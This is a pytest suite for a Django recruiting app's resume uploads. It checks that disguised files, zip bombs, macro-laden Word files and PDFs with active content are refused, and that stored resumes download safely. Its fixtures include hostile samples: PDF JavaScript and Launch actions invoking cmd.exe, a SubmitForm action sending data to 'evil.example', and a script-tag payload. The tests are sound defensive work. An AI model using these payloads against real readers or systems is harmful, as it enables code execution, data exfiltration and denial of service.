"""Resume uploads: what is refused (and nothing stored), what is read, and how it is served."""

import pytest
from django.urls import reverse

from candidates.models import Candidate
from candidates.resumes import MAX_RESUME_BYTES
from tests.candidates.conftest import (
    docx_bytes,
    macro_docx,
    pdf_bytes,
    stored_files,
    upload,
    zip_bomb_docx,
)

NEW = reverse("candidates:new")


def _post_with_resume(client, resume, email="new.person@example.org"):
    return client.post(
        NEW,
        {
            "first_name": "New",
            "last_name": "Person",
            "email": email,
            "skills": "Python, K8s",
            "source": "sourced",
            "resume_file": resume,
        },
    )


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("resume.pdf", b"", "file is empty"),
        ("resume.pdf", b"%PDF-1.4\n" + b"0" * (MAX_RESUME_BYTES + 1), "larger than 10 MB"),
        ("resume.pdf", b"MZ\x90\x00 this is really an executable", "not a PDF"),
        ("resume.docx", pdf_bytes("hello"), "not a Word document"),
        ("resume.txt", b"PK\x03\x04 a zip in disguise", "not plain text"),
        ("resume.exe", b"plain words", "Upload a PDF, DOCX or plain text"),
        ("resume.docx", zip_bomb_docx(entries=600), "zip bomb"),
        ("resume.docx", zip_bomb_docx(padding_bytes=20 * 1024 * 1024), "zip bomb"),
    ],
    ids=[
        "empty",
        "oversized",
        "exe-renamed-pdf",
        "pdf-renamed-docx",
        "zip-as-txt",
        "exe",
        "too-many-entries",
        "compression-ratio",
    ],
)
def test_a_bad_resume_is_refused_with_a_clear_error_and_nothing_is_stored(
    client_for, recruiter, media_root, name, data, message
):
    response = _post_with_resume(client_for(recruiter), upload(name, data))

    assert response.status_code == 400
    assert message in " ".join(response.context["form"].errors["resume_file"])
    assert not Candidate.objects.exists()
    assert stored_files(media_root) == []


ACTIVE_PDFS = {
    "javascript-open-action": {"catalog": b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"},
    "escaped-names": {"catalog": b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"},
    "launch": {"catalog": b"/OpenAction << /S /Launch /F (cmd.exe) >>"},
    "document-javascript": {
        "catalog": b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>"
    },
    "page-open-action": {"page": b"/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>"},
}


@pytest.mark.parametrize("extra", ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
def test_a_pdf_with_javascript_or_an_automatic_action_is_refused_and_nothing_is_stored(
    client_for, recruiter, media_root, extra
):
    response = _post_with_resume(client_for(recruiter), upload("cv.pdf", pdf_bytes("Ada", **extra)))

    assert response.status_code == 400
    assert "contains active content" in " ".join(response.context["form"].errors["resume_file"])
    assert 'value="New"' in response.content.decode()  # what was typed is kept
    assert not Candidate.objects.exists()
    assert stored_files(media_root) == []


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("cv.docx", macro_docx("Ada"), "contains macros"),
        ("cv.docx", macro_docx("Ada", extension_part="word/activeX/activeX1.xml"), "ActiveX"),
        ("cv.docm", macro_docx("Ada"), "Upload a PDF, DOCX or plain text"),
    ],
    ids=["vba-project", "activex", "docm"],
)
def test_a_word_document_with_macros_is_refused_and_nothing_is_stored(
    client_for, recruiter, media_root, name, data, message
):
    response = _post_with_resume(client_for(recruiter), upload(name, data))

    assert response.status_code == 400
    assert message in " ".join(response.context["form"].errors["resume_file"])
    assert not Candidate.objects.exists()
    assert stored_files(media_root) == []


def test_a_pdf_that_opens_on_its_first_page_is_accepted(client_for, recruiter, media_root):
    plain_open = pdf_bytes("Kubernetes operator", catalog=b"/OpenAction [3 0 R /Fit]")
    response = _post_with_resume(client_for(recruiter), upload("cv.pdf", plain_open))

    assert response.status_code == 302
    assert "Kubernetes operator" in Candidate.objects.get().resume_text


def test_a_docx_over_the_uncompressed_size_limit_is_a_zip_bomb(client_for, recruiter, media_root):
    # Many moderately compressible entries: each ratio looks fine, the total does not.
    import io
    import os
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for number in range(6):
            archive.writestr(f"word/media/image{number}.bin", os.urandom(1024 * 1024))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/huge.xml", b"<a/>" * (12 * 1024 * 1024))  # 48 MB, ratio ~1000
    response = _post_with_resume(client_for(recruiter), upload("resume.docx", buffer.getvalue()))

    assert "zip bomb" in " ".join(response.context["form"].errors["resume_file"])
    assert stored_files(media_root) == []


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("cv.pdf", pdf_bytes("Kubernetes operator with Terraform")),
        ("cv.docx", docx_bytes("Kubernetes operator with Terraform")),
        ("cv.txt", "Kubernetes operator with Terraform, café".encode()),
    ],
)
def test_a_resume_is_stored_under_a_random_name_and_its_text_extracted(
    client_for, recruiter, media_root, name, data
):
    response = _post_with_resume(client_for(recruiter), upload(name, data))

    candidate = Candidate.objects.get()
    assert response.status_code == 302
    assert "Kubernetes operator with Terraform" in candidate.resume_text
    assert candidate.resume_status == Candidate.ResumeStatus.EXTRACTED
    assert candidate.resume_filename == name
    assert "cv" not in candidate.resume.name.rsplit("/", 1)[-1]  # random, not the upload's name
    [stored] = stored_files(media_root)
    assert stored.read_bytes() == data
    assert candidate.skills == ["python", "kubernetes"]


def test_a_resume_whose_text_cannot_be_read_is_kept_and_the_profile_says_so(
    client_for, recruiter, media_root
):
    client = client_for(recruiter)
    damaged = b"%PDF-1.4\n1 0 obj\n<< broken beyond repair"
    _post_with_resume(client, upload("scan.pdf", damaged))

    candidate = Candidate.objects.get()
    assert candidate.resume_status == Candidate.ResumeStatus.UNREADABLE
    assert len(stored_files(media_root)) == 1
    page = client.get(reverse("candidates:detail", args=[candidate.pk]))
    assert "could not be extracted" in page.content.decode()


def test_a_resume_is_downloaded_as_an_attachment_with_nosniff(client_for, recruiter):
    client = client_for(recruiter)
    _post_with_resume(client, upload("cv.txt", b"<script>alert(1)</script> Python"))
    candidate = Candidate.objects.get()

    response = client.get(reverse("candidates:resume", args=[candidate.pk]))

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="cv.txt"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"].startswith("text/plain")
    assert b"".join(response.streaming_content).startswith(b"<script>")


def test_hiring_managers_cannot_download_a_resume(client_for, recruiter, hiring_manager):
    _post_with_resume(client_for(recruiter), upload("cv.txt", b"Python"))
    candidate = Candidate.objects.get()

    response = client_for(hiring_manager).get(reverse("candidates:resume", args=[candidate.pk]))

    assert response.status_code == 404


def test_a_profile_without_a_resume_has_nothing_to_download(client_for, recruiter, make_candidate):
    candidate = make_candidate()
    response = client_for(recruiter).get(reverse("candidates:resume", args=[candidate.pk]))
    assert response.status_code == 404


def test_replacing_a_resume_deletes_the_old_file_after_commit(
    client_for, recruiter, media_root, django_capture_on_commit_callbacks
):
    client = client_for(recruiter)
    _post_with_resume(client, upload("old.txt", b"Cobol mainframes"))
    candidate = Candidate.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("candidates:edit", args=[candidate.pk]),
            {
                "first_name": "New",
                "last_name": "Person",
                "email": candidate.email,
                "source": "sourced",
                "resume_file": upload("new.txt", b"Rust and WebAssembly"),
            },
        )

    candidate.refresh_from_db()
    assert response.status_code == 302
    assert candidate.resume_filename == "new.txt"
    assert "Rust" in candidate.resume_text
    assert [path.read_bytes() for path in stored_files(media_root)] == [b"Rust and WebAssembly"]


def test_a_resume_whose_upload_never_committed_leaves_no_file_behind(
    recruiter, media_root, clock, django_capture_on_commit_callbacks
):
    from datetime import timedelta

    from django.db import transaction

    from ats.media import ORPHAN_GRACE
    from ats.tasks import delete_orphan_files
    from candidates.services import candidate_create

    class Crash(Exception):
        pass

    kept = candidate_create(
        by=recruiter,
        first_name="Kept",
        last_name="One",
        email="kept@example.org",
        resume=upload("kept.txt", b"Kept resume"),
    )
    with pytest.raises(Crash), transaction.atomic():  # the process dies before the commit
        candidate_create(
            by=recruiter,
            first_name="Lost",
            last_name="One",
            email="lost@example.org",
            resume=upload("lost.txt", b"Lost resume"),
        )
        raise Crash
    assert len(stored_files(media_root)) == 2  # the file was written, its row never committed
    assert list(Candidate.objects.values_list("email", flat=True)) == ["kept@example.org"]

    assert delete_orphan_files() == 0  # within the grace: it could be a transaction in progress
    clock.advance(ORPHAN_GRACE + timedelta(minutes=1))
    assert delete_orphan_files() == 1
    [left] = stored_files(media_root)
    assert left.as_posix().endswith(kept.resume.name)
    assert left.read_bytes() == b"Kept resume"
